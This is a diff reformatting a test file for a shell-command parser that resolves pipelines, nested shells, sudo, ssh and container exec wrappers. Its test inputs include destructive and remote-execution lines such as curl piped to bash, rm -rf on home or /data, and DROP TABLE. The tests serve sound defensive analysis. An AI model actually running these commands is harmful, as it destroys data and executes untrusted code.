@@ -10,27 +10,67 @@ describe('lists and pipelines', () => {
   it.for<Row>([
     {
       line: 'git add . && git commit -m wip; git push',
-      expect: [{ program: 'git', args: ['add', '.'] }, { program: 'git', args: ['commit', '-m', 'wip'] }, { program: 'git', args: ['push'], src: 'git push' }],
+      expect: [
+        { program: 'git', args: ['add', '.'] },
+        { program: 'git', args: ['commit', '-m', 'wip'] },
+        { program: 'git', args: ['push'], src: 'git push' },
+      ],
     },
-    { line: 'make || echo failed', expect: [{ program: 'make', src: 'make' }, { program: 'echo', args: ['failed'] }] },
-    { line: 'npm run dev & npm test', expect: [{ program: 'npm', args: ['run', 'dev'], src: 'npm run dev' }, { program: 'npm', args: ['test'] }] },
-    { line: 'ls\nrm -rf dist', expect: [{ program: 'ls', src: 'ls' }, { program: 'rm', args: ['-rf', 'dist'], src: 'rm -rf dist' }] },
+    {
+      line: 'make || echo failed',
+      expect: [
+        { program: 'make', src: 'make' },
+        { program: 'echo', args: ['failed'] },
+      ],
+    },
+    {
+      line: 'npm run dev & npm test',
+      expect: [
+        { program: 'npm', args: ['run', 'dev'], src: 'npm run dev' },
+        { program: 'npm', args: ['test'] },
+      ],
+    },
+    {
+      line: 'ls\nrm -rf dist',
+      expect: [
+        { program: 'ls', src: 'ls' },
+        { program: 'rm', args: ['-rf', 'dist'], src: 'rm -rf dist' },
+      ],
+    },
     {
       line: 'cat a | grep x |& tee log',
-      expect: [{ program: 'cat', stage: [0, 3] }, { program: 'grep', stage: [1, 3] }, { program: 'tee', args: ['log'], stage: [2, 3] }],
+      expect: [
+        { program: 'cat', stage: [0, 3] },
+        { program: 'grep', stage: [1, 3] },
+        { program: 'tee', args: ['log'], stage: [2, 3] },
+      ],
     },
     // a subshell or group in a pipeline is a stage of it: its commands read that stage's input
     {
       line: 'ps aux | (grep node) | xargs kill',
-      expect: [{ program: 'ps', stage: [0, 3] }, { program: 'grep', via: '(', stage: [1, 3] }, { program: 'xargs', stage: [2, 3] }, { program: 'kill', via: 'xargs', stage: [2, 3] }],
+      expect: [
+        { program: 'ps', stage: [0, 3] },
+        { program: 'grep', via: '(', stage: [1, 3] },
+        { program: 'xargs', stage: [2, 3] },
+        { program: 'kill', via: 'xargs', stage: [2, 3] },
+      ],
     },
     {
       line: '(cat a; cat b | sort) | uniq',
-      expect: [{ program: 'cat', via: '(', stage: [0, 3] }, { program: 'cat', via: '(', stage: [0, 3] }, { program: 'sort', via: '(', stage: [1, 3] }, { program: 'uniq', stage: [2, 3] }],
+      expect: [
+        { program: 'cat', via: '(', stage: [0, 3] },
+        { program: 'cat', via: '(', stage: [0, 3] },
+        { program: 'sort', via: '(', stage: [1, 3] },
+        { program: 'uniq', stage: [2, 3] },
+      ],
     },
     {
       line: 'curl -s x.sh | { cd /tmp; bash; }',
-      expect: [{ program: 'curl', stage: [0, 2] }, { program: 'cd', via: '{', stage: [1, 2] }, { program: 'bash', via: '{', stage: [1, 2] }],
+      expect: [
+        { program: 'curl', stage: [0, 2] },
+        { program: 'cd', via: '{', stage: [1, 2] },
+        { program: 'bash', via: '{', stage: [1, 2] },
+      ],
     },
     {
       line: '(cd sub && make) && rm -rf sub/out',
@@ -42,42 +82,143 @@ describe('lists and pipelines', () => {
     },
     {
       line: '{ echo a; rm b; } > log',
-      expect: [{ program: 'echo', via: '{' }, { program: 'rm', via: '{', args: ['b'] }, { program: ':', writes: ['log'], src: '> log' }],
+      expect: [
+        { program: 'echo', via: '{' },
+        { program: 'rm', via: '{', args: ['b'] },
+        { program: ':', writes: ['log'], src: '> log' },
+      ],
     },
     {
       line: 'if [ -d x ]; then rm -r x; else mkdir x; fi',
-      expect: [{ program: '[', args: ['-d', 'x', ']'] }, { program: 'rm', args: ['-r', 'x'] }, { program: 'mkdir', args: ['x'] }],
+      expect: [
+        { program: '[', args: ['-d', 'x', ']'] },
+        { program: 'rm', args: ['-r', 'x'] },
+        { program: 'mkdir', args: ['x'] },
+      ],
     },
-    { line: 'while read -r f; do rm "$f"; done < list.txt', expect: [{ program: 'read' }, { program: 'rm', args: ['$f'] }, { program: ':', src: '< list.txt' }] },
+    {
+      line: 'while read -r f; do rm "$f"; done < list.txt',
+      expect: [{ program: 'read' }, { program: 'rm', args: ['$f'] }, { program: ':', src: '< list.txt' }],
+    },
     // what a loop or group is fed is read: the no-op `:` carries the redirection
-    { line: '{ read a; read b; } < .env', expect: [{ program: 'read', via: '{' }, { program: 'read', via: '{' }, { program: ':', src: '< .env' }] },
+    {
+      line: '{ read a; read b; } < .env',
+      expect: [
+        { program: 'read', via: '{' },
+        { program: 'read', via: '{' },
+        { program: ':', src: '< .env' },
+      ],
+    },
     { line: 'for f in *.log; do gzip "$f"; done', expect: [{ program: 'gzip', args: ['$f'] }] },
     // a `for` loop over plain words: each command that uses the variable, once per word
-    { line: 'for d in build dist; do rm -rf "$d"; done', expect: [{ program: 'rm', args: ['-rf', 'build'], src: 'rm -rf "$d"' }, { program: 'rm', args: ['-rf', 'dist'] }] },
+    {
+      line: 'for d in build dist; do rm -rf "$d"; done',
+      expect: [
+        { program: 'rm', args: ['-rf', 'build'], src: 'rm -rf "$d"' },
+        { program: 'rm', args: ['-rf', 'dist'] },
+      ],
+    },
     // `export d` keeps what the loop variable stands for
-    { line: 'for d in build dist; do export d; rm -rf "$d"; done', expect: [{ program: 'export', args: ['d'] }, { program: 'rm', args: ['-rf', 'build'] }, { program: 'rm', args: ['-rf', 'dist'] }] },
-    { line: 'for d in src ~; do rm -rf "$d"; done', expect: [{ program: 'rm', args: ['-rf', 'src'] }, { program: 'rm', args: ['-rf', '/home/dev'] }] },
-    { line: "for d in build 'my dist'\ndo\n  rm -rf $d/cache\ndone", expect: [{ program: 'rm', args: ['-rf', 'build/cache'] }, { program: 'rm', args: ['-rf', 'my', 'dist/cache'] }] },
-    { line: 'for d in build src; do bash -c "rm -rf $d"; done', expect: [{ program: 'bash' }, { program: 'rm', args: ['-rf', 'build'], via: 'bash -c' }, { program: 'bash' }, { program: 'rm', args: ['-rf', 'src'], via: 'bash -c' }] },
-    { line: 'for c in "rm -rf src"; do echo $c | sh; done', expect: [{ program: 'echo', args: ['rm', '-rf', 'src'] }, { program: 'sh' }, { program: 'rm', args: ['-rf', 'src'], via: 'sh <<', src: '$c' }] },
+    {
+      line: 'for d in build dist; do export d; rm -rf "$d"; done',
+      expect: [
+        { program: 'export', args: ['d'] },
+        { program: 'rm', args: ['-rf', 'build'] },
+        { program: 'rm', args: ['-rf', 'dist'] },
+      ],
+    },
+    {
+      line: 'for d in src ~; do rm -rf "$d"; done',
+      expect: [
+        { program: 'rm', args: ['-rf', 'src'] },
+        { program: 'rm', args: ['-rf', '/home/dev'] },
+      ],
+    },
+    {
+      line: "for d in build 'my dist'\ndo\n  rm -rf $d/cache\ndone",
+      expect: [
+        { program: 'rm', args: ['-rf', 'build/cache'] },
+        { program: 'rm', args: ['-rf', 'my', 'dist/cache'] },
+      ],
+    },
+    {
+      line: 'for d in build src; do bash -c "rm -rf $d"; done',
+      expect: [
+        { program: 'bash' },
+        { program: 'rm', args: ['-rf', 'build'], via: 'bash -c' },
+        { program: 'bash' },
+        { program: 'rm', args: ['-rf', 'src'], via: 'bash -c' },
+      ],
+    },
+    {
+      line: 'for c in "rm -rf src"; do echo $c | sh; done',
+      expect: [
+        { program: 'echo', args: ['rm', '-rf', 'src'] },
+        { program: 'sh' },
+        { program: 'rm', args: ['-rf', 'src'], via: 'sh <<', src: '$c' },
+      ],
+    },
     // … but not when the list or the command cannot be followed word by word
-    { line: 'for f in $(ls); do rm "$f"; done', expect: [{ program: 'ls', via: '$(' }, { program: 'rm', args: ['$f'] }] },
+    {
+      line: 'for f in $(ls); do rm "$f"; done',
+      expect: [
+        { program: 'ls', via: '$(' },
+        { program: 'rm', args: ['$f'] },
+      ],
+    },
     { line: 'for d in {build,dist}; do rm -rf "$d"; done', expect: [{ program: 'rm', args: ['-rf', '$d'] }] },
     { line: 'for d; do rm -rf "$d"; done', expect: [{ program: 'rm', args: ['-rf', '$d'] }] },
-    { line: 'for d in d0 d1 d2 d3 d4 d5 d6 d7 d8 d9 d10 d11 d12 d13 d14 d15 d16 d17 d18 d19 d20 d21 d22 d23 d24 d25 d26 d27 d28 d29 d30 d31 d32 d33 d34 d35 d36 d37 d38 d39 d40 d41 d42 d43 d44 d45 d46 d47 d48 d49 d50 d51 d52 d53 d54 d55 d56 d57 d58 d59 d60 d61 d62 d63 d64; do rm -rf "$d"; done', expect: [{ program: 'rm', args: ['-rf', '$d'] }] },
-    { line: 'for d in build src; do cd "$d" && rm -rf .; done', expect: [{ program: 'cd', args: ['$d'] }, { program: 'rm', args: ['-rf', '.'], cwd: '/home/dev/project/$d' }] },
-    { line: 'd=src; for d in build; do :; done; rm -rf "$d"', expect: [{ program: ':' }, { program: 'rm', args: ['-rf', 'build'] }] },
+    {
+      line: 'for d in d0 d1 d2 d3 d4 d5 d6 d7 d8 d9 d10 d11 d12 d13 d14 d15 d16 d17 d18 d19 d20 d21 d22 d23 d24 d25 d26 d27 d28 d29 d30 d31 d32 d33 d34 d35 d36 d37 d38 d39 d40 d41 d42 d43 d44 d45 d46 d47 d48 d49 d50 d51 d52 d53 d54 d55 d56 d57 d58 d59 d60 d61 d62 d63 d64; do rm -rf "$d"; done',
+      expect: [{ program: 'rm', args: ['-rf', '$d'] }],
+    },
+    {
+      line: 'for d in build src; do cd "$d" && rm -rf .; done',
+      expect: [
+        { program: 'cd', args: ['$d'] },
+        { program: 'rm', args: ['-rf', '.'], cwd: '/home/dev/project/$d' },
+      ],
+    },
+    {
+      line: 'd=src; for d in build; do :; done; rm -rf "$d"',
+      expect: [{ program: ':' }, { program: 'rm', args: ['-rf', 'build'] }],
+    },
     { line: 'until curl -s localhost:3000; do sleep 1; done', expect: [{ program: 'curl' }, { program: 'sleep' }] },
     {
       line: 'case "$1" in start) npm start;; stop|halt) pkill node;; esac',
-      expect: [{ program: 'npm', args: ['start'] }, { program: 'pkill', args: ['node'] }],
+      expect: [
+        { program: 'npm', args: ['start'] },
+        { program: 'pkill', args: ['node'] },
+      ],
     },
-    { line: 'f() { rm -rf "$1"; }; f build', expect: [{ program: 'rm', via: '{' }, { program: 'f', args: ['build'] }] },
+    {
+      line: 'f() { rm -rf "$1"; }; f build',
+      expect: [
+        { program: 'rm', via: '{' },
+        { program: 'f', args: ['build'] },
+      ],
+    },
     { line: 'function clean { rm -rf out; }', expect: [{ program: 'rm', via: '{', args: ['-rf', 'out'] }] },
-    { line: '! git diff --quiet && git stash', expect: [{ program: 'git', args: ['diff', '--quiet'] }, { program: 'git', args: ['stash'] }] },
+    {
+      line: '! git diff --quiet && git stash',
+      expect: [
+        { program: 'git', args: ['diff', '--quiet'] },
+        { program: 'git', args: ['stash'] },
+      ],
+    },
     { line: '[[ -f .env ]] && cat .env', expect: [{ program: 'cat', args: ['.env'] }] },
-    { line: 'a; (b; (c)); d', expect: [{ program: 'a' }, { program: 'b', via: '(' }, { program: 'c', via: '( > (' }, { program: 'd' }] },
-    { line: 'time (npm ci && npm test); time { make; }', expect: [{ program: 'npm', via: '(' }, { program: 'npm', via: '(' }, { program: 'make', via: '{' }] },
+    {
+      line: 'a; (b; (c)); d',
+      expect: [{ program: 'a' }, { program: 'b', via: '(' }, { program: 'c', via: '( > (' }, { program: 'd' }],
+    },
+    {
+      line: 'time (npm ci && npm test); time { make; }',
+      expect: [
+        { program: 'npm', via: '(' },
+        { program: 'npm', via: '(' },
+        { program: 'make', via: '{' },
+      ],
+    },
   ])('$line', (row) => {
     checkRow(row);
   });
@@ -98,7 +239,10 @@ describe('quotes joined as the shell joins them', () => {
     { line: "rm ''", expect: [{ program: 'rm', args: [''] }] },
     { line: String.raw`echo "a\"b\\c\$d"`, expect: [{ program: 'echo', args: ['a"b\\c$d'] }] },
     // runs of escapes are taken at once; the span still covers the word as written
-    { line: String.raw`\r\m -rf \.\e\n\v`, expect: [{ program: 'rm', args: ['-rf', '.env'], src: String.raw`\r\m -rf \.\e\n\v` }] },
+    {
+      line: String.raw`\r\m -rf \.\e\n\v`,
+      expect: [{ program: 'rm', args: ['-rf', '.env'], src: String.raw`\r\m -rf \.\e\n\v` }],
+    },
     { line: String.raw`echo "\\\$\"\\x" a\ \ \ b`, expect: [{ program: 'echo', args: ['\\$"\\x', 'a   b'] }] },
   ])('$line', (row) => {
     checkRow(row);
@@ -107,15 +251,33 @@ describe('quotes joined as the shell joins them', () => {
 
 describe('prefixes removed for matching and kept as facts', () => {
   it.for<Row>([
-    { line: 'sudo rm -rf /var/tmp/x', expect: [{ program: 'rm', via: 'sudo', prefixes: 'sudo', src: 'rm -rf /var/tmp/x' }] },
-    { line: 'sudo -u bob -g staff whoami', expect: [{ program: 'whoami', via: 'sudo', prefixes: 'sudo -u bob -g staff' }] },
-    { line: 'sudo -E HUSKY=0 git commit -m x', expect: [{ program: 'git', via: 'sudo', env: { HUSKY: '0' }, prefixes: 'sudo -E' }] },
+    {
+      line: 'sudo rm -rf /var/tmp/x',
+      expect: [{ program: 'rm', via: 'sudo', prefixes: 'sudo', src: 'rm -rf /var/tmp/x' }],
+    },
+    {
+      line: 'sudo -u bob -g staff whoami',
+      expect: [{ program: 'whoami', via: 'sudo', prefixes: 'sudo -u bob -g staff' }],
+    },
+    {
+      line: 'sudo -E HUSKY=0 git commit -m x',
+      expect: [{ program: 'git', via: 'sudo', env: { HUSKY: '0' }, prefixes: 'sudo -E' }],
+    },
     { line: 'sudo -- ls /var/log', expect: [{ program: 'ls', args: ['/var/log'], via: 'sudo' }] },
     { line: 'doas -u root ls', expect: [{ program: 'ls', via: 'doas', prefixes: 'doas -u root' }] },
-    { line: 'env -i PATH=/bin FOO=1 make', expect: [{ program: 'make', via: 'env', env: { PATH: '/bin', FOO: '1' }, prefixes: 'env -i' }] },
+    {
+      line: 'env -i PATH=/bin FOO=1 make',
+      expect: [{ program: 'make', via: 'env', env: { PATH: '/bin', FOO: '1' }, prefixes: 'env -i' }],
+    },
     { line: 'env -u HOME -C /tmp ls', expect: [{ program: 'ls', via: 'env', cwd: '/tmp' }] },
     { line: 'command git status', expect: [{ program: 'git', via: 'command' }] },
-    { line: 'builtin cd /srv && ls', expect: [{ program: 'cd', via: 'builtin' }, { program: 'ls', cwd: '/srv' }] },
+    {
+      line: 'builtin cd /srv && ls',
+      expect: [
+        { program: 'cd', via: 'builtin' },
+        { program: 'ls', cwd: '/srv' },
+      ],
+    },
     { line: 'exec node server.js', expect: [{ program: 'node', args: ['server.js'], via: 'exec' }] },
     {
       line: 'nice -n 10 ionice -c 3 tar czf a.tgz .',
@@ -123,14 +285,27 @@ describe('prefixes removed for matching and kept as facts', () => {
     },
     { line: 'nohup node server.js > out.log 2>&1 &', expect: [{ program: 'node', via: 'nohup', writes: ['out.log'] }] },
     { line: 'time -p make', expect: [{ program: 'make', via: 'time', prefixes: 'time -p' }] },
-    { line: 'timeout -k 5 30 npm test', expect: [{ program: 'npm', args: ['test'], via: 'timeout', prefixes: 'timeout -k 5 30' }] },
+    {
+      line: 'timeout -k 5 30 npm test',
+      expect: [{ program: 'npm', args: ['test'], via: 'timeout', prefixes: 'timeout -k 5 30' }],
+    },
     { line: 'stdbuf -oL tail -f app.log', expect: [{ program: 'tail', via: 'stdbuf' }] },
     { line: 'chronic make', expect: [{ program: 'make', via: 'chronic' }] },
     { line: 'caffeinate -i npm run build', expect: [{ program: 'npm', via: 'caffeinate' }] },
-    { line: 'HUSKY=0 SKIP=lint git commit -m x', expect: [{ program: 'git', env: { HUSKY: '0', SKIP: 'lint' }, src: 'git commit -m x' }] },
+    {
+      line: 'HUSKY=0 SKIP=lint git commit -m x',
+      expect: [{ program: 'git', env: { HUSKY: '0', SKIP: 'lint' }, src: 'git commit -m x' }],
+    },
     {
       line: 'nohup sudo env X=1 timeout 5 rm -rf x',
-      expect: [{ program: 'rm', via: 'nohup > sudo > env > timeout', env: { X: '1' }, prefixes: 'nohup, sudo, env, timeout 5' }],
+      expect: [
+        {
+          program: 'rm',
+          via: 'nohup > sudo > env > timeout',
+          env: { X: '1' },
+          prefixes: 'nohup, sudo, env, timeout 5',
+        },
+      ],
     },
     { line: 'sudo -D /srv make', expect: [{ program: 'make', cwd: '/srv', via: 'sudo' }] },
   ])('$line', (row) => {
@@ -148,41 +323,93 @@ describe('inner shells opened recursively', () => {
         { program: 'git', args: ['push', '--force'], cwd: '/repo', via: 'sudo > sh -c', src: 'git push --force' },
       ],
     },
-    { line: "bash -c 'rm -rf build'", expect: [{ program: 'bash' }, { program: 'rm', via: 'bash -c', src: 'rm -rf build' }] },
+    {
+      line: "bash -c 'rm -rf build'",
+      expect: [{ program: 'bash' }, { program: 'rm', via: 'bash -c', src: 'rm -rf build' }],
+    },
     {
       line: "bash -lc 'cd /srv && ./deploy.sh'",
-      expect: [{ program: 'bash' }, { program: 'cd', via: 'bash -c' }, { program: './deploy.sh', via: 'bash -c', cwd: '/srv' }],
+      expect: [
+        { program: 'bash' },
+        { program: 'cd', via: 'bash -c' },
+        { program: './deploy.sh', via: 'bash -c', cwd: '/srv' },
+      ],
     },
-    { line: 'sh -ec "set -x; git push"', expect: [{ program: 'sh' }, { program: 'set', via: 'sh -c' }, { program: 'git', via: 'sh -c', src: 'git push' }] },
+    {
+      line: 'sh -ec "set -x; git push"',
+      expect: [{ program: 'sh' }, { program: 'set', via: 'sh -c' }, { program: 'git', via: 'sh -c', src: 'git push' }],
+    },
     { line: "bash -euo pipefail -c 'rm -rf x'", expect: [{ program: 'bash' }, { program: 'rm', via: 'bash -c' }] },
     { line: "zsh -c 'git push'", expect: [{ program: 'zsh' }, { program: 'git', via: 'zsh -c' }] },
-    { line: 'fish --command="rm -rf x"', expect: [{ program: 'fish' }, { program: 'rm', via: 'fish -c', src: 'rm -rf x' }] },
+    {
+      line: 'fish --command="rm -rf x"',
+      expect: [{ program: 'fish' }, { program: 'rm', via: 'fish -c', src: 'rm -rf x' }],
+    },
     {
       line: String.raw`bash -c "echo \"quoted\" && rm -rf \"my dir\""`,
-      expect: [{ program: 'bash' }, { program: 'echo', via: 'bash -c' }, { program: 'rm', args: ['-rf', 'my dir'], via: 'bash -c', src: String.raw`rm -rf \"my dir\"` }],
+      expect: [
+        { program: 'bash' },
+        { program: 'echo', via: 'bash -c' },
+        { program: 'rm', args: ['-rf', 'my dir'], via: 'bash -c', src: String.raw`rm -rf \"my dir\"` },
+      ],
     },
     {
       line: `bash -c 'bash -c "rm -rf x"'`,
-      expect: [{ program: 'bash' }, { program: 'bash', via: 'bash -c' }, { program: 'rm', via: 'bash -c > bash -c', src: 'rm -rf x' }],
+      expect: [
+        { program: 'bash' },
+        { program: 'bash', via: 'bash -c' },
+        { program: 'rm', via: 'bash -c > bash -c', src: 'rm -rf x' },
+      ],
     },
-    { line: 'eval "git push --force"', expect: [{ program: 'eval' }, { program: 'git', via: 'eval', src: 'git push --force' }] },
-    { line: 'eval git push origin main', expect: [{ program: 'eval' }, { program: 'git', args: ['push', 'origin', 'main'], via: 'eval', src: 'git push origin main' }] },
+    {
+      line: 'eval "git push --force"',
+      expect: [{ program: 'eval' }, { program: 'git', via: 'eval', src: 'git push --force' }],
+    },
+    {
+      line: 'eval git push origin main',
+      expect: [
+        { program: 'eval' },
+        { program: 'git', args: ['push', 'origin', 'main'], via: 'eval', src: 'git push origin main' },
+      ],
+    },
     {
       line: 'pwsh -NoProfile -Command "Remove-Item -Recurse -Force build"',
       expect: [{ program: 'pwsh' }, { program: 'Remove-Item', args: ['-Recurse', '-Force', 'build'], via: 'pwsh -c' }],
     },
-    { line: 'powershell -c "Stop-Process -Name node"', expect: [{ program: 'powershell' }, { program: 'Stop-Process', via: 'powershell -c' }] },
-    { line: `powershell.exe "Remove-Item 'C:\\temp\\x'"`, expect: [{ program: 'powershell.exe' }, { program: 'Remove-Item', args: ['C:\\temp\\x'], via: 'powershell -c' }] },
-    { line: 'cmd /c "rd /s /q build"', expect: [{ program: 'cmd' }, { program: 'rd', args: ['/s', '/q', 'build'], via: 'cmd -c' }] },
-    { line: 'cmd.exe /k del x & echo done', expect: [{ program: 'cmd.exe' }, { program: 'del', via: 'cmd -c' }, { program: 'echo' }] },
+    {
+      line: 'powershell -c "Stop-Process -Name node"',
+      expect: [{ program: 'powershell' }, { program: 'Stop-Process', via: 'powershell -c' }],
+    },
+    {
+      line: `powershell.exe "Remove-Item 'C:\\temp\\x'"`,
+      expect: [{ program: 'powershell.exe' }, { program: 'Remove-Item', args: ['C:\\temp\\x'], via: 'powershell -c' }],
+    },
+    {
+      line: 'cmd /c "rd /s /q build"',
+      expect: [{ program: 'cmd' }, { program: 'rd', args: ['/s', '/q', 'build'], via: 'cmd -c' }],
+    },
+    {
+      line: 'cmd.exe /k del x & echo done',
+      expect: [{ program: 'cmd.exe' }, { program: 'del', via: 'cmd -c' }, { program: 'echo' }],
+    },
     {
       line: 'ssh -p 2222 -i ~/.ssh/deploy -o StrictHostKeyChecking=no deploy@prod.example.com "sudo systemctl restart app"',
-      expect: [{ program: 'ssh' }, { program: 'systemctl', via: 'ssh > sudo', host: 'prod.example.com', src: 'systemctl restart app' }],
+      expect: [
+        { program: 'ssh' },
+        { program: 'systemctl', via: 'ssh > sudo', host: 'prod.example.com', src: 'systemctl restart app' },
+      ],
     },
-    { line: 'ssh host rm -rf /tmp/x', expect: [{ program: 'ssh' }, { program: 'rm', args: ['-rf', '/tmp/x'], via: 'ssh', host: 'host' }] },
+    {
+      line: 'ssh host rm -rf /tmp/x',
+      expect: [{ program: 'ssh' }, { program: 'rm', args: ['-rf', '/tmp/x'], via: 'ssh', host: 'host' }],
+    },
     {
       line: `ssh build 'cd /srv/app && git reset --hard'`,
-      expect: [{ program: 'ssh' }, { program: 'cd', via: 'ssh' }, { program: 'git', via: 'ssh', cwd: '/srv/app', host: 'build' }],
+      expect: [
+        { program: 'ssh' },
+        { program: 'cd', via: 'ssh' },
+        { program: 'git', via: 'ssh', cwd: '/srv/app', host: 'build' },
+      ],
     },
     // a command run inside a container or pod is read, and marked as run there
     {
@@ -194,21 +421,47 @@ describe('inner shells opened recursively', () => {
         { program: 'rm', args: ['-rf', 'cache'], via: 'docker > sh -c', cwd: '/srv', host: 'container app' },
       ],
     },
-    { line: "docker compose -f dc.yml exec -T db psql -c 'DROP TABLE users'", expect: [{ program: 'docker' }, { program: 'psql', via: 'docker', host: 'container db' }] },
-    { line: 'podman container exec web npm test', expect: [{ program: 'podman' }, { program: 'npm', args: ['test'], via: 'podman', host: 'container web' }] },
-    { line: 'kubectl -n prod exec -it web -c app -- sh -c "rm -rf /data"', expect: [{ program: 'kubectl' }, { program: 'sh', via: 'kubectl', host: 'pod web' }, { program: 'rm', via: 'kubectl > sh -c', host: 'pod web' }] },
-    { line: 'kubectl exec deploy/api -- printenv', expect: [{ program: 'kubectl' }, { program: 'printenv', via: 'kubectl', host: 'pod deploy/api' }] },
+    {
+      line: "docker compose -f dc.yml exec -T db psql -c 'DROP TABLE users'",
+      expect: [{ program: 'docker' }, { program: 'psql', via: 'docker', host: 'container db' }],
+    },
+    {
+      line: 'podman container exec web npm test',
+      expect: [{ program: 'podman' }, { program: 'npm', args: ['test'], via: 'podman', host: 'container web' }],
+    },
+    {
+      line: 'kubectl -n prod exec -it web -c app -- sh -c "rm -rf /data"',
+      expect: [
+        { program: 'kubectl' },
+        { program: 'sh', via: 'kubectl', host: 'pod web' },
+        { program: 'rm', via: 'kubectl > sh -c', host: 'pod web' },
+      ],
+    },
+    {
+      line: 'kubectl exec deploy/api -- printenv',
+      expect: [{ program: 'kubectl' }, { program: 'printenv', via: 'kubectl', host: 'pod deploy/api' }],
+    },
     // … but a container that is started, or an exec with no command, runs nothing the reader can see
     { line: 'docker run --rm node:20 npm test', expect: [{ program: 'docker' }] },
     { line: 'docker exec -it app', expect: [{ program: 'docker' }] },
     { line: 'kubectl exec -- ls', expect: [{ program: 'kubectl' }] },
     { line: 'kubectl get pods -o name exec', expect: [{ program: 'kubectl' }] },
     { line: 'su - root -c "rm -rf /var/log/x"', expect: [{ program: 'su' }, { program: 'rm', via: 'su -c' }] },
-    { line: "script -q -c 'git push' /dev/null", expect: [{ program: 'script' }, { program: 'git', via: 'script -c' }] },
-    { line: 'watch -n 2 "kubectl delete pod x"', expect: [{ program: 'watch' }, { program: 'kubectl', args: ['delete', 'pod', 'x'], via: 'watch -c' }] },
+    {
+      line: "script -q -c 'git push' /dev/null",
+      expect: [{ program: 'script' }, { program: 'git', via: 'script -c' }],
+    },
+    {
+      line: 'watch -n 2 "kubectl delete pod x"',
+      expect: [{ program: 'watch' }, { program: 'kubectl', args: ['delete', 'pod', 'x'], via: 'watch -c' }],
+    },
     {
       line: 'sh -c "$(curl -fsSL https://example.com/install.sh)"',
-      expect: [{ program: 'curl', via: '$(' }, { program: 'sh' }, { program: '$(curl -fsSL https://example.com/install.sh)', via: 'sh -c' }],
+      expect: [
+        { program: 'curl', via: '$(' },
+        { program: 'sh' },
+        { program: '$(curl -fsSL https://example.com/install.sh)', via: 'sh -c' },
+      ],
       opaque: ['dynamic-program'],
     },
   ])('$line', (row) => {
@@ -218,25 +471,56 @@ describe('inner shells opened recursively', () => {
 
 describe('runners: xargs, parallel, find -exec, package runners', () => {
   it.for<Row>([
-    { line: 'ls | xargs wc -l', expect: [{ program: 'ls', stage: [0, 2] }, { program: 'xargs', stage: [1, 2] }, { program: 'wc', via: 'xargs', stage: [1, 2] }] },
-    { line: 'ls | xargs rm -rf', expect: [{ program: 'ls' }, { program: 'xargs' }, { program: 'rm', args: ['-rf'], via: 'xargs', src: 'rm -rf' }] },
+    {
+      line: 'ls | xargs wc -l',
+      expect: [
+        { program: 'ls', stage: [0, 2] },
+        { program: 'xargs', stage: [1, 2] },
+        { program: 'wc', via: 'xargs', stage: [1, 2] },
+      ],
+    },
+    {
+      line: 'ls | xargs rm -rf',
+      expect: [{ program: 'ls' }, { program: 'xargs' }, { program: 'rm', args: ['-rf'], via: 'xargs', src: 'rm -rf' }],
+    },
     {
       line: "find . -name '*.tmp' -print0 | xargs -0 -n 10 -P 4 rm -f",
       expect: [{ program: 'find' }, { program: 'xargs' }, { program: 'rm', args: ['-f'], via: 'xargs' }],
     },
-    { line: 'xargs -I{} mv {} /tmp/old < list', expect: [{ program: 'xargs' }, { program: 'mv', args: ['{}', '/tmp/old'], via: 'xargs' }] },
+    {
+      line: 'xargs -I{} mv {} /tmp/old < list',
+      expect: [{ program: 'xargs' }, { program: 'mv', args: ['{}', '/tmp/old'], via: 'xargs' }],
+    },
     {
       line: "git ls-files | xargs -I % sh -c 'rm %'",
-      expect: [{ program: 'git' }, { program: 'xargs' }, { program: 'sh', via: 'xargs' }, { program: 'rm', via: 'xargs > sh -c' }],
+      expect: [
+        { program: 'git' },
+        { program: 'xargs' },
+        { program: 'sh', via: 'xargs' },
+        { program: 'rm', via: 'xargs > sh -c' },
+      ],
     },
     { line: 'parallel gzip ::: *.log', expect: [{ program: 'parallel' }, { program: 'gzip', via: 'parallel' }] },
-    { line: "parallel -j 4 'rm -rf {}' ::: a b", expect: [{ program: 'parallel' }, { program: 'rm', args: ['-rf', '{}'], via: 'parallel' }] },
-    { line: 'parallel ::: "git push" "npm publish"', expect: [{ program: 'parallel' }, { program: 'git', via: 'parallel' }, { program: 'npm', via: 'parallel' }] },
+    {
+      line: "parallel -j 4 'rm -rf {}' ::: a b",
+      expect: [{ program: 'parallel' }, { program: 'rm', args: ['-rf', '{}'], via: 'parallel' }],
+    },
+    {
+      line: 'parallel ::: "git push" "npm publish"',
+      expect: [{ program: 'parallel' }, { program: 'git', via: 'parallel' }, { program: 'npm', via: 'parallel' }],
+    },
     {
       line: String.raw`find . -type f -exec chmod 644 {} + -exec touch {} \;`,
-      expect: [{ program: 'find' }, { program: 'chmod', args: ['644', '{}'], via: 'find' }, { program: 'touch', args: ['{}'], via: 'find' }],
+      expect: [
+        { program: 'find' },
+        { program: 'chmod', args: ['644', '{}'], via: 'find' },
+        { program: 'touch', args: ['{}'], via: 'find' },
+      ],
     },
-    { line: String.raw`find build -execdir rm -rf {} \;`, expect: [{ program: 'find' }, { program: 'rm', via: 'find', src: 'rm -rf {}' }] },
+    {
+      line: String.raw`find build -execdir rm -rf {} \;`,
+      expect: [{ program: 'find' }, { program: 'rm', via: 'find', src: 'rm -rf {}' }],
+    },
     { line: 'npx -y rimraf@5 dist', expect: [{ program: 'npx' }, { program: 'rimraf@5', via: 'npx', args: ['dist'] }] },
     { line: 'npx --package=typescript tsc --noEmit', expect: [{ program: 'npx' }, { program: 'tsc', via: 'npx' }] },
     { line: "npx -c 'rm -rf dist'", expect: [{ program: 'npx' }, { program: 'rm', via: 'npx' }] },
@@ -246,7 +530,13 @@ describe('runners: xargs, parallel, find -exec, package runners', () => {
     { line: 'yarn dlx create-vite app', expect: [{ program: 'yarn' }, { program: 'create-vite', via: 'yarn' }] },
     { line: 'uvx --from ruff==0.6 ruff check .', expect: [{ program: 'uvx' }, { program: 'ruff', via: 'uvx' }] },
     { line: 'pipx run black .', expect: [{ program: 'pipx' }, { program: 'black', via: 'pipx' }] },
-    { line: 'sudo xargs rm < files.txt', expect: [{ program: 'xargs', via: 'sudo' }, { program: 'rm', via: 'sudo > xargs' }] },
+    {
+      line: 'sudo xargs rm < files.txt',
+      expect: [
+        { program: 'xargs', via: 'sudo' },
+        { program: 'rm', via: 'sudo > xargs' },
+      ],
+    },
   ])('$line', (row) => {
     checkRow(row);
   });
@@ -256,14 +546,26 @@ describe('inline code: commands found inside', () => {
   it.for<Row>([
     {
       line: `python3 -c "import os; os.system('rm -rf build')"`,
